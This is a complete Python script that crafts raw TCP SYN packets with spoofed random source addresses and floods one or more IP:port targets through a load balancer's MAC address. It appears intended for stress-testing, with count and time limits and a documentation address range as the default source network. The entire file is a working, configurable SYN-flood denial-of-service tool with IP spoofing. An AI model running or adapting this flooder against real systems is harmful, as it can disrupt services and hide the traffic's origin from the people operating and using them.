#!/usr/bin/env python3
"""SYN flood from random sources to one or more VIP:PORT targets (AF_PACKET, root).

Each frame is a TCP SYN from a random address of --src-net and a random port, sent to
--dst-mac (the load balancer), cycling over the targets. Bounded by --count frames
and --seconds, whichever comes first; prints what it sent. Checksums are correct so
that the frames are dropped, or forwarded, for being a flood and for nothing else.

usage: synflood.py IFACE --dst-mac MAC --target IP:PORT [--target ...] [--count N]
                   [--seconds S] [--src-net 203.0.113.0/24]
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src_mac, dst_mac, src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0,
                     64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("iface")
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--target", action="append", required=True, help="IP:PORT")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--src-net", default="203.0.113.0/24")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    random.seed(a.seed)
    net = ipaddress.ip_network(a.src_net)
    targets = []
    for t in a.target:
        ip, port = t.rsplit(":", 1)
        targets.append((socket.inet_aton(ip), int(port)))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    src_mac = s.getsockname()[4]
    dst_mac = bytes.fromhex(a.dst_mac.replace(":", ""))
    end = time.monotonic() + a.seconds
    sent = refused = 0
    for i in range(a.count):
        if i % 256 == 0 and time.monotonic() > end:
            break
        src = (net.network_address + random.randrange(1, net.num_addresses - 1)).packed
        dst, dport = targets[i % len(targets)]
        fr = syn(src_mac, dst_mac, src, dst, random.randrange(1024, 65536), dport,
                 random.getrandbits(32))
        try:
            s.send(fr)
            sent += 1
        except OSError:
            refused += 1
            # The socket's queue is full: give the receiver a moment, keep the bound.
            time.sleep(0.001)
    print("%d SYNs sent, %d refused on %s" % (sent, refused, a.iface))
    sys.exit(0 if sent else 1)


if __name__ == "__main__":
    main()
